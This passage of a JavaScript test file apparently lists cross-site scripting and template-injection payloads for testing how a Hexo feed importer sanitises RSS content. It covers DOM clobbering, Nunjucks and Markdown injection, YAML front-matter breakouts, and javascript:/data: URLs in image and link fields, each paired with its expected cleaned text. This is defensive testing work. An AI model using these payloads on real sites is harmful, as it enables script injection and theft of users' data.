  '<img name="getElementById" src=x>',
  '<img id="getElementById" name="getElementById" src=x>',
  '<p id="probe-footer">shadow</p>',
  '<a id="probeSettings"></a><a id="probeSettings" name="url" href="http://CANARY/$ID">c</a>',
  '<embed name="probeSettings"><object id="probeSettings"></object>',
  '<iframe name="probeSettings" src="https://www.youtube.com/embed/x"></iframe>',
  '<img name="cookie" src=x>',
  '<img name="body" src=x><form name="body"></form>',
  '<img name="currentScript" src=x>',
  '<form id="probe-main"><input name="id"></form>',
  '<a id="defaultView"></a><img name="defaultView" src=x>',
  '<div id="probeSettings"><div id="url">nested</div></div>',
  '<img name="querySelector" src=x><img name="createElement" src=x>',
  '<a name="probeSettings" href="http://CANARY/$ID">c</a><a name="getElementById">g</a>',
  '<map name="probeSettings"><area href="http://CANARY/$ID" shape="default"></map><map name="cookie"></map>',
]);

// The legacy markup kept since feeds in the wild use it (table layout, font, image maps, meter, noscript's
// fallback): its attributes carry only their own values, and what noscript holds is shown, cleaned.
const LEGACY_MARKUP = group('legacy-markup', 'legacy', [
  `<table background="javascript:${ALERT}" bgcolor="red" border="1"><tr><td background="http://CANARY/$ID" bgcolor="url(http://CANARY/$ID)">t</td></tr></table>`,
  `<font face="x;}</style><script>${ALERT}</script>" color="expression(${ALERT})" size="javascript:1">f</font>`,
  `<img src=x usemap="javascript:${ALERT}" hspace="8" vspace="x onerror=${ALERT}" align="left">`,
  `<meter value="1" onmouseover="${ALERT}" min="javascript:0">m</meter><progress value="1" onclick="${ALERT}">p</progress>`,
  `<map name="m"><area shape="default" href="http://CANARY/$ID" onmouseover="${ALERT}" ping="http://CANARY/$ID"></map><img src=x usemap="#m">`,
  `<center onclick="${ALERT}"><big onmouseover="${ALERT}">b</big></center><br clear="all" onload="${ALERT}">`,
  `<p hidden onmouseover="${ALERT}">h</p><acronym title="x" onclick="${ALERT}">a</acronym><dir onclick="${ALERT}"><li>d</li></dir>`,
  { html: '<noscript><p>Shown to readers without scripts.</p></noscript>', literal: 'Shown to readers without scripts.' },
  { html: `<noscript><p>Fallback</p><script>${ALERT}</script><img src=x onerror="${ALERT}"></noscript>`, literal: 'Fallback' },
  { html: '<p><font color="#c00" face="Georgia">Red, in Georgia</font> and <center>centred</center></p>', literal: 'Red, in Georgia' },
]);

// Hexo's Nunjucks: tags and expressions in feed text must come out as the literal text, never run.
const TEMPLATE_INJECTION = group('template-injection', 'nunjucks', [
  { html: `<p>{{ constructor.constructor("${ALERT}")() }}</p>`, literal: `{{ constructor.constructor("${ALERT}")() }}` },
  { html: `<p>{{ '&lt;img src=x onerror=${ALERT_DQ}&gt;' | safe }}</p>`, literal: `{{ '<img src=x onerror=${ALERT_DQ}>' | safe }}` },
  { html: '<p>{% raw %}</p><p>{{ 7*7 }}</p><p>{% endraw %}</p>', literal: '{{ 7*7 }}' },
  { html: '<p>{{ 7*7 }}</p>', literal: '{{ 7*7 }}' },
  {
    html: `<p>{% set probe = '&lt;img src=x onerror=${ALERT_DQ}&gt;' %}{{ probe | safe }}</p>`,
    literal: `{% set probe = '<img src=x onerror=${ALERT_DQ}>' %}{{ probe | safe }}`,
  },
  { html: `<p>{# &lt;img src=x onerror=${ALERT_DQ}&gt; #}</p>`, literal: `{# <img src=x onerror=${ALERT_DQ}> #}` },
  { html: "<p>{% include '/etc/passwd' %}</p>", literal: "{% include '/etc/passwd' %}" },
  { html: '<p>{{ config.url }} {{ page.title }}</p>', literal: '{{ config.url }} {{ page.title }}' },
  { html: '<p>{% for p in site.posts %}{{ p.title }}{% endfor %}</p>', literal: '{% for p in site.posts %}{{ p.title }}{% endfor %}' },
  {
    html: `<p>{% endraw %}{{ '&lt;script&gt;${ALERT_DQ}&lt;/script&gt;' | safe }}{% raw %}</p>`,
    literal: `{% endraw %}{{ '<script>${ALERT_DQ}</script>' | safe }}{% raw %}`,
  },
  {
    html: `<p>{<!-- -->{ '&lt;img src=x onerror=${ALERT_DQ}&gt;' | safe }<!-- -->}</p>`,
    literal: `{{ '<img src=x onerror=${ALERT_DQ}>' | safe }}`,
  },
  { html: '<p>{<b></b>{ 7*7 }<i></i>}</p>', literal: '{{ 7*7 }}' },
  `<p title="{{ '&lt;img src=x onerror=${ALERT_DQ}&gt;' | safe }}">in an attribute</p>`,
  { html: '<p>{% iframe http://CANARY/$ID 100% 100 %}</p>', literal: '{% iframe http://CANARY/$ID 100% 100 %}' },
  { html: '<p>{% img http://CANARY/$ID.png %}</p>', literal: '{% img http://CANARY/$ID.png %}' },
  { html: '<p>{% youtube probe %}</p>', literal: '{% youtube probe %}' },
  {
    html: `<p>{% codeblock %}&lt;img src=x onerror=${ALERT_DQ}&gt;{% endcodeblock %}</p>`,
    literal: `{% codeblock %}<img src=x onerror=${ALERT_DQ}>{% endcodeblock %}`,
  },
  { html: '<p>&#123;&#123; 7*7 &#125;&#125;</p>', literal: '{{ 7*7 }}' },
  { html: '<pre>{{ 7*7 }}\n{% raw %}</pre>', literal: '{{ 7*7 }}\n{% raw %}' },
  { html: "<p>{{ range(10) | join(',') }}</p>", literal: "{{ range(10) | join(',') }}" },
  {
    html: `<p>{%- if true -%}&lt;script&gt;${ALERT}&lt;/script&gt;{%- endif -%}</p>`,
    literal: `{%- if true -%}<script>${ALERT}</script>{%- endif -%}`,
  },
  { html: '<p>{% raw %}<img src=x onerror="alert(1)">{% endraw %}</p>', literal: '{% raw %}{% endraw %}' },
]);

// Markdown: Hexo renders the post body with marked. Links, images and autolinks in text, blank lines
// and indentation that would end the HTML block the body sits in, fences, and `---` blocks.
const MARKDOWN_INJECTION = group('markdown-injection', 'markdown', [
  { html: `<p>[x](javascript:${ALERT})</p>`, literal: `[x](javascript:${ALERT})` },
  { html: '<p>![x](http://CANARY/$ID.png)</p>', literal: '![x](http://CANARY/$ID.png)' },
  { html: '<p>a</p>\n\n![x](http://CANARY/$ID.png)\n\n<p>b</p>', literal: '![x](http://CANARY/$ID.png)' },
  `<p>a</p>\n\n<script>${ALERT}</script>`,
  `\n\n    <img src=x onerror=${ALERT}>\n\n`,
  { html: `<p>a</p>\n\n    &lt;img src=x onerror=${ALERT}&gt;\n`, literal: `<img src=x onerror=${ALERT}>` },
  { html: '<p>x</p>\n---\ntitle: pwned\nlayout: false\n---\n<p>y</p>', literal: 'title: pwned' },
  `---\nlayout: false\n---\n<script>${ALERT}</script>`,
  { html: `<p>[x][probe]</p>\n\n[probe]: javascript:${ALERT}`, literal: `[probe]: javascript:${ALERT}` },
  { html: '<p>&lt;http://CANARY/$ID&gt;</p>', literal: '<http://CANARY/$ID>' },
  { html: `<p>a</p>\n\`\`\`html\n&lt;img src=x onerror=${ALERT}&gt;\n\`\`\`\n<p>b</p>`, literal: `<img src=x onerror=${ALERT}>` },
  { html: `<p>a</p>\n~~~\n&lt;script&gt;${ALERT}&lt;/script&gt;\n~~~\n<p>b</p>`, literal: `<script>${ALERT}</script>` },
  { html: `<div>\n\n[x](javascript:${ALERT})\n\n</div>`, literal: `[x](javascript:${ALERT})` },
  { html: '<details><summary>s</summary>\n\n![x](http://CANARY/$ID.png)\n\n</details>', literal: '![x](http://CANARY/$ID.png)' },
  { html: '<table><tr><td>\n\n![x](http://CANARY/$ID.png)\n\n</td></tr></table>', literal: '![x](http://CANARY/$ID.png)' },
  `<p>a<!-- more -->b</p><script>${ALERT}</script>`,
  { html: `<pre>\n\n[x](javascript:${ALERT})\n\n</pre>`, literal: `[x](javascript:${ALERT})` },
  { html: `<p>*x*</p>\n\n* [x](javascript:${ALERT})`, literal: `* [x](javascript:${ALERT})` },
  { html: '<p>&lt;/div&gt;</p>\n\n![x](http://CANARY/$ID.png)', literal: '![x](http://CANARY/$ID.png)' },
  { html: '</div>\n\n![x](http://CANARY/$ID.png)\n\n<div>', literal: '![x](http://CANARY/$ID.png)' },
  { html: '<p>a</p>\n\t\n\t\n![x](http://CANARY/$ID.png)', literal: '![x](http://CANARY/$ID.png)' },
  { html: '<p>a</p>\r\n\r\n![x](http://CANARY/$ID.png)', literal: '![x](http://CANARY/$ID.png)' },
  { html: '<p>&lt;img src="http://CANARY/$ID.png"&gt;</p>', literal: '<img src="http://CANARY/$ID.png">' },
  // Line breaks written as character references: text, not markup, to the HTML parser, but Markdown
  // reads a carriage return as a line end.
  { html: '<p>a</p>&#13;&#13;![x](http://CANARY/$ID.png)', literal: '![x](http://CANARY/$ID.png)' },
  { html: '<p>a</p>&#13;&#10;&#13;&#10;![x](http://CANARY/$ID.png)', literal: '![x](http://CANARY/$ID.png)' },
  { html: '<p>a&#13;&#13;![x](http://CANARY/$ID.png)</p>', literal: '![x](http://CANARY/$ID.png)' },
  { html: '<p>a</p>&#12;&#12;![x](http://CANARY/$ID.png)', literal: '![x](http://CANARY/$ID.png)' },
  { html: '<p>a</p>\n&#x0B;\n![x](http://CANARY/$ID.png)', literal: '![x](http://CANARY/$ID.png)' },
  { html: '<p>a</p>\n&#x2028;\n![x](http://CANARY/$ID.png)', literal: '![x](http://CANARY/$ID.png)' },
  { html: '<p>a</p>\n&nbsp;\n![x](http://CANARY/$ID.png)', literal: '![x](http://CANARY/$ID.png)' },
  { html: '<p>a</p>&#13;    &#13;![x](http://CANARY/$ID.png)', literal: '![x](http://CANARY/$ID.png)' },
  { html: `<p>a</p>&#13;&#13;<script>${ALERT}</script>&#13;&#13;[x](javascript:${ALERT})`, literal: `[x](javascript:${ALERT})` },
]);

// Titles: plain text in front matter and in the theme (`<title>`, a heading, an attribute). Markup,
// quotes that would end a YAML or HTML string, newlines with `---` and keys after them, template syntax.
const FRONT_MATTER = group(
  'front-matter',
  'title',
  [
    `<script>${ALERT}</script>`,
    `&lt;script&gt;${ALERT}&lt;/script&gt;`,
    `&lt;img src=x onerror=${ALERT}&gt;`,
    `x' onmouseover='${ALERT_DQ}`,
    `x" onmouseover="${ALERT}`,
    `x\n---\nlayout: false\n---\n&lt;script&gt;${ALERT}&lt;/script&gt;`,
    'title: x\nlayout: false',
    `x'\nlayout: false\nheadimg: 'javascript:${ALERT}`,
    `{{ '&lt;img src=x onerror=${ALERT_DQ}&gt;' | safe }}`,
    `&lt;/title&gt;&lt;script&gt;${ALERT}&lt;/script&gt;`,
    `"&gt;&lt;svg onload=${ALERT}&gt;`,
    `javascript:${ALERT}`,
    `x\u2028layout: false\u2028---\u2028&lt;script&gt;${ALERT}&lt;/script&gt;`,
    `x&#x85;---&#x85;layout: false`,
    `&amp;lt;script&amp;gt;${ALERT}&amp;lt;/script&amp;gt;`,
    `!!js/function 'function(){ ${ALERT} }'`,
    'x\tlayout: false',
    '&#123;&#123; 7*7 &#125;&#125;',
    `<img src=x onerror=${ALERT}>`,
    `- [x](javascript:${ALERT})`,
  ],
  'title',
);

// The lead image comes from the feed's media fields and lands in front matter (headimg, thumbnail) and
// in the theme's <img src>.
const LEAD_IMAGE = group(
  'lead-image',
  'image',
  [
    `<media:thumbnail url="javascript:${ALERT}"/>`,
    `<media:thumbnail url="data:text/html,&lt;script&gt;${ALERT}&lt;/script&gt;"/>`,
    `<enclosure url="&quot; onerror=&quot;${ALERT}" type="image/jpeg" length="1"/>`,
    `<media:content url="vbscript:msgbox('XSS:$ID')" medium="image"/>`,
    `<enclosure url="JaVaScRiPt:${ALERT}" type="image/png" length="1"/>`,
    `<itunes:image href="javascript:${ALERT}"/>`,
    `<media:thumbnail url="  javascript:${ALERT}"/>`,
    `<media:thumbnail url="https://img.news.example/a.jpg' onerror='${ALERT_DQ}"/>`,
    '<media:thumbnail url="https://img.news.example/a.jpg&#10;layout: false"/>',
    `<media:group><media:content url="data:image/svg+xml,&lt;svg onload=${ALERT}&gt;" medium="image"/></media:group>`,
    `<enclosure url="java&#x0A;script:${ALERT}" type="image/jpeg" length="1"/>`,
    `<media:thumbnail url="https://img.news.example/a.jpg&quot;&gt;&lt;script&gt;${ALERT}&lt;/script&gt;"/>`,
  ],
  'image',
);

// The item's link becomes `original_url` in front matter and the theme's source link.
const ITEM_LINK = group(
  'item-link',
  'link',
  [
    `<link>javascript:${ALERT}</link>`,
    `<link>JAVASCRIPT:${ALERT}</link>`,
    `<link>  javascript:${ALERT}</link>`,
    `<link>data:text/html,&lt;script&gt;${ALERT}&lt;/script&gt;</link>`,
    "<link>vbscript:msgbox('XSS:$ID')</link>",
    `<link>https://news.example/x" onclick="${ALERT}</link>`,
    `<link>java&#x0A;script:${ALERT}</link>`,
    `<guid isPermaLink="true">javascript:${ALERT}</guid>`,
    `<link><![CDATA[javascript:${ALERT}]]></link>`,
    "<link>https://news.example/x'\nlayout: false</link>",
    `<link>jav&#x09;ascript:${ALERT}</link>`,
  ],
  'link',
);

export const XSS_VECTORS: readonly XssVector[] = [
  ...SCRIPT_TAGS,
  ...EVENT_HANDLERS,
  ...URL_SCHEMES,
  ...CSS,
  ...BASE_META_LINK,
  ...OBJECT_EMBED,
  ...IFRAMES,
  ...FORMS,
  ...SVG,
  ...MATHML,
  ...MUTATION,
  ...TEMPLATES,
  ...DOM_CLOBBERING,
  ...LEGACY_MARKUP,
  ...TEMPLATE_INJECTION,
  ...MARKDOWN_INJECTION,
  ...FRONT_MATTER,
  ...LEAD_IMAGE,
  ...ITEM_LINK,
];
